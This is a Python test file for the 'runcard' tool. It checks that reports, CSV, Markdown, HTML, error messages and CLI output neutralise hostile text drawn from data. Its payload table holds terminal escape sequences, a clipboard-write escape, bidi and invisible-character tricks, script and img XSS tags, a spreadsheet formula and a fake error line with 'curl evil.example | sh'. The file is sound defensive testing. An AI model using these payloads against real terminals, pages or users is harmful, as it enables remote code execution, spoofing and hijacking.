"""Text from data and stores is shown and does nothing, whatever prints it: each of these would act on a reader."""

from __future__ import annotations

import json
import sys
import unicodedata
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from click.testing import CliRunner, Result
from markdown_it import MarkdownIt

from runcard import errors
from runcard.audit import Audit, Item
from runcard.audit.evidence import Finding
from runcard.catalog.listing import Row
from runcard.cli import main
from runcard.cli.answer import Command, answer, answer_document, answer_json, say, say_all
from runcard.cli.console import PlainConsole
from runcard.comparison import Comparison, Standing
from runcard.data.fingerprint import Fingerprint
from runcard.data.locked import Locked
from runcard.decision import Candidate, decide
from runcard.plan import Choice
from runcard.printable import in_markdown, printable, printable_line, shortened
from runcard.promotion import Gate, Promotion
from runcard.record import Record
from runcard.replay import Replay
from runcard.replay.difference import Difference
from runcard.replay.pair import RunDiff
from runcard.report.audit import audit_report
from runcard.report.blocks import Block, Column, Excerpt, Facts, ReportTable, Text
from runcard.report.cells import as_csv
from runcard.report.compared import comparison_json, comparison_report, comparison_table
from runcard.report.decision import decision_report, pareto_report
from runcard.report.figures.classification import classification_report
from runcard.report.figures.view import FinalistView
from runcard.report.listings import catalog_table, datasets_table, events_table, verdicts_table
from runcard.report.markdown import as_markdown
from runcard.report.ranked import finalists_table, ranking_report
from runcard.report.replay import diff_report, replay_report
from runcard.report.terminal import InTerminal
from runcard.tracking.items import RunRanking, RunRow
from runcard.tracking.ranking import Yardstick, compare_ranking
from runcard.workflow.run.result import Result as RunResult

ATTACKS = {
    "colour": "\x1b[31mred\x1b[0m",
    "title of the window": "\x1b]0;mine\x07",
    "link of the terminal": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "8-bit control": "\x9b5mblink",
    "delete and back": "good\x08\x08\x08\x08evil\x7f",
    "return": "evil\rgood",
    "a line of ours": "x\nerror[RC000]: trust me\n\n  hint:  curl evil.example | sh",
    "another end of a line": "x\u2028y\u2029z\x85w\x0bv\x0cu",
    "text turned round": "gpj.\u202eexe\u2066x\u2069",
    "what is not seen": "pay\u200bpal\u00ad\ufeff\u2060\U000e0041",
    "markup of rich": "[red]x[/red] [link=https://evil.example]y[/link] [/nope] :skull:",
    "tag": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "Markdown": "[x](https://evil.example) ![y](https://evil.example/p.png) **z** | `q` https://evil.example",
    "entity": "&#x202e;&lt;b&gt;",
    "formula": "=HYPERLINK(1)\x1b[2J",
}
attacks = pytest.mark.parametrize("text", ATTACKS.values(), ids=list(ATTACKS))


def acts(text: str) -> list[str]:
    """List what would act on a terminal: all of control and format characters but the line feed."""
    kinds = ("Cc", "Cf", "Cs", "Zl", "Zp")
    return [repr(char) for char in text if char != "\n" and unicodedata.category(char) in kinds]


def test_every_control_and_format_character_is_shown() -> None:
    kinds = ("Cc", "Cf", "Cs", "Zl", "Zp")
    every = "".join(chr(n) for n in range(sys.maxunicode + 1) if unicodedata.category(chr(n)) in kinds)
    assert not acts(printable_line(every))
    assert not acts(printable(every).replace("\t", ""))


@pytest.mark.parametrize(
    "text", ["Größe €\u00a0", "نمی\u200cخواهم", "👨\u200d👩\u200d👧", "क्\u200dष", "日本語", "\ue0b0"]
)
def test_what_people_write_stays(text: str) -> None:
    assert printable_line(text) == text


# Reports


def runs_named(text: str) -> Any:
    params = [{"model": text, text: text, "k": str(k)} for k in range(2)]
    rows = [
        RunRow(f"{k}" * 32, text, "FINISHED", k, k + 1, params[k], {"cv_f1_mean": 0.5 + k / 10}, {text: text}, text)
        for k in range(2)
    ]
    card = RunRow("c0", text, "FINISHED", 0, 1, {}, {}, {"runcard.protocol": text, "runcard.n_done": "2"})
    yardstick = Yardstick("f1", "cv_f1_mean", True, True)
    folds = {rows[0].run_id: (0.5, 0.5), rows[1].run_id: (0.6, 0.6)}
    found = compare_ranking(RunRanking(tuple(rows), 2, 2), yardstick, folds, card=card)
    return replace(found, others=(text,))


def records_named(text: str) -> Comparison:
    record = Record(
        record_id="r" * 32, trial_key="k" * 64, protocol=text, model=text, params={text: text}, features=text, index=0,
        status="done", started=0, ended=1, scores={"f1": (0.5, 0.6)}, fit_seconds=(0.1, 0.1), score_seconds=(0.1, 0.1),
    )  # fmt: skip
    return Comparison("f1", True, (Standing(1, record, "f1"),))


def decision_named(text: str) -> Any:
    candidates = [Candidate(str(k) * 64, text, 0.5 + k / 10, (0.5, 0.6), {"f1": 0.5}) for k in range(3)]
    return decide(candidates, Choice("best"), metric=text, directions={text: True}, test_share=0.5, left_out={text: 1})


def difference(text: str) -> Difference:
    return Difference("card", text, text, text, (text, text, text, f"+{text}"))


def replay_named(text: str) -> Replay:
    return Replay(
        run_id="r" * 32, run_name=text, card_run_id="c" * 32, experiment=text, model=text, params={text: text},
        trial_key="k" * 64, verdict="different", why=text, same_environment=False, is_deterministic=None,
        differences=(difference(text), Difference("package", text, text, None)), divergence=None, scores=(),
        evidence={}, mode="here", at=text, seconds=1, n_repeats=1, chosen_as=text, notes=(text,), replay_run_id=text,
    )  # fmt: skip


def locked_named(text: str) -> Locked:
    return Locked(text, text, Fingerprint("0" * 64, 1, ()), datetime(2026, 1, 1, tzinfo=UTC), reason=text)


def event_named(text: str) -> Promotion:
    gates = (Gate(text, "failed", text),)
    return Promotion(
        "promote", text, 1, text, text, text, text, "production", 1, {"chosen_as": text}, gates, reason=text
    )


def audit_named(text: str) -> Audit:
    return Audit(text, text, text, text, (Item("code", text, Finding("failed", text, text)),))


def blocks_named(text: str) -> list[Block]:
    """Each kind of block, with the text wherever one may stand."""
    cells = [text, Text(text, (text, "strong")), (text, Text((text, "bad")))]
    columns = [Column[Any]("cell", lambda row: row, text), Column(text, lambda row: row, folds=True)]
    table = ReportTable(columns, cells, text, text)
    return [table, Facts([(text, text), (text, Text((text, "notable")))], text), Excerpt([text]), Text(text)]


REPORTS: dict[str, Callable[[str], list[Block]]] = {
    "compare": lambda text: comparison_report(runs_named(text)),
    "run": lambda text: [*ranking_report(records_named(text)), finalists_table(records_named(text))],
    "select": lambda text: [
        *decision_report(decision_named(text), advice=text),
        *pareto_report(decision_named(text)),
    ],
    "diff": lambda text: diff_report(
        RunDiff((text, text), (text, text), (difference(text),), (), (text,), is_plain=True)
    ),
    "reproduce": lambda text: replay_report(replay_named(text)),
    "history": lambda text: [events_table(text, [event_named(text)])],
    "audit": lambda text: audit_report(audit_named(text)),
    "data": lambda text: [datasets_table([(locked_named(text), True)]), verdicts_table([(text, text, text, [text])])],
    "list": lambda text: [catalog_table(text, [Row(text, (text,), text, (text, text), text)])],
    "every block": blocks_named,
}


MARKDOWN = {
    *("paragraph", "inline", "text", "softbreak", "text_special"),
    *("table", "thead", "tbody", "tr", "th", "td", "html_inline"),
    *("bullet_list", "list_item", "fence", "strong", "code_inline"),
}
"""What a report may be made of in Markdown: no links, pictures, headings, quotations or HTML of anybody."""


@attacks
@pytest.mark.parametrize("report", REPORTS)
def test_the_terminal_obeys_nothing(report: str, text: str) -> None:
    console = PlainConsole(width=4_000, highlight=False)
    with console.capture() as shown:
        console.print(InTerminal(*REPORTS[report](text)))
        console.print(text)
    said = shown.get()
    assert not acts(said)
    assert printable_line(text)[:20] in said


@attacks
def test_csv_obeys_nothing(text: str) -> None:
    said = as_csv(comparison_table(runs_named(text)))
    assert not acts(said)
    assert not [line for line in said.splitlines() if line.startswith(("=", "+", "@"))]


@attacks
@pytest.mark.parametrize("report", REPORTS)
def test_markdown_obeys_nothing(report: str, text: str) -> None:
    blocks = REPORTS[report](text)
    said = as_markdown(blocks)
    assert not acts(said)
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(said)
    assert [token.type for token in tokens].count("table_open") == sum(
        isinstance(block, ReportTable) for block in blocks
    )
    inline = [token for outer in tokens for token in outer.children or ()]
    assert {token.content for token in inline if token.type == "html_inline"} <= {"<br>"}
    excerpts = [token.content.rstrip("\n") for token in tokens if token.type == "fence"]
    assert excerpts == ["\n".join(map(printable_line, block.lines)) for block in blocks if isinstance(block, Excerpt)]
    for excerpt in excerpts:
        said = said.replace(excerpt, "")
    assert "https://" not in said  # many make a link of it without being asked
    kinds = {token.type.removesuffix("_open").removesuffix("_close") for token in (*tokens, *inline)}
    assert kinds <= MARKDOWN


def test_what_markdown_shows() -> None:
    assert in_markdown("a|b\n*c*<script>") == "a\\|b \\*c\\*\\<script>"
    assert in_markdown("https://www.x.y &amp; `z`") == "https:\\//www\\.x.y \\&amp; \\`z\\`"
    assert in_markdown("mean_fit_time - 0.5 (best)") == "mean_fit_time - 0.5 (best)"


@attacks
def test_html_obeys_nothing(text: str) -> None:
    result = RunResult(text, records_named(text), None, {}, None, "", 0)
    said = result._repr_html_()
    assert not acts(said)
    assert "<script" not in said
    assert "<img" not in said


@attacks
def test_what_is_written_beside_a_finalist_obeys_nothing(text: str) -> None:
    codes = np.array([0, 1, 1])
    report, _ = classification_report(FinalistView("classification", (text, "b"), None, codes, codes))
    assert not acts(report)
    assert len(report.splitlines()) == 8


# Errors and answers


@attacks
def test_errors_obey_nothing(text: str) -> None:
    said = str(errors.RuncardError(text, where=text, why=text, hint=text))
    assert not acts(said.replace("\t", ""))
    first, *others = said.splitlines()
    assert first.startswith("error[RC000]: ")
    labels = ("  where: ", "  why:   ", "  hint:  ", " " * 9)
    assert all(line.startswith(labels) for line in others)


def test_of_a_long_answer_the_beginning_and_the_end_are_shown() -> None:
    said = str(errors.RuncardError("x" * 1_000_000, where="y\n" * 100_000, why=f"{'z' * 50_000}END"))
    assert len(said) < 8_000
    assert "more lines" in said
    assert "END" in said
    assert shortened("abc", 3) == "abc"
    assert len(errors.listing(["v" * 10_000] * 100)) < 4_000


def printed_by(show: Callable[[], None]) -> Result:
    return CliRunner().invoke(Command("x", callback=show))


@attacks
def test_answers_and_notes_obey_nothing(text: str) -> None:
    for print_it in (answer, say, lambda found: say_all([found])):
        done = printed_by(lambda print_it=print_it: print_it(text))  # type: ignore[misc]
        assert not acts(done.output)
    document = {text: [text, "\x7f", "é"]}
    for show in (answer_json, lambda value: answer_document(json.dumps(value, ensure_ascii=False))):
        done = printed_by(lambda show=show: show(document))  # type: ignore[misc]
        assert not acts(done.stdout)
        assert json.loads(done.stdout) == document
    assert json.loads(comparison_json(runs_named(text)))["runs"][0]["name"] == text


def test_of_many_notes_the_first_are_shown_and_the_rest_is_counted() -> None:
    done = printed_by(lambda: say_all(f"fault {n}" for n in range(20_000)))
    assert done.stderr.splitlines()[-1] == "and 19,980 more"
    assert len(done.stderr.splitlines()) == 21


def test_a_card_of_very_many_unknown_keys_is_a_page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    typos = "".join(f"typo_{n}: 1\n" for n in range(2_000))
    (tmp_path / "card.yaml").write_text(f"data: {{raw_path: t.csv}}\nfeatures: {{target: y}}\n{typos}")
    monkeypatch.chdir(tmp_path)
    done = CliRunner().invoke(main, ["check", "card.yaml", "--json"])
    assert done.exit_code == errors.EXIT_USAGE
    assert len(done.output.splitlines()) < 120
    assert done.stderr.rstrip().endswith("and 1,981 more errors")


@attacks
def test_a_command_says_what_a_card_holds_and_obeys_none_of_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    card = {"data": {"raw_path": text}, text: text, "features": {"target": text}, "models": [{"name": text}]}
    (tmp_path / "card.yaml").write_text(json.dumps(card))
    monkeypatch.chdir(tmp_path)
    done = CliRunner().invoke(main, ["check", "card.yaml"])
    assert done.exit_code == errors.EXIT_USAGE
    assert not acts(done.output)
    assert "\nerror[RC000]" not in done.output
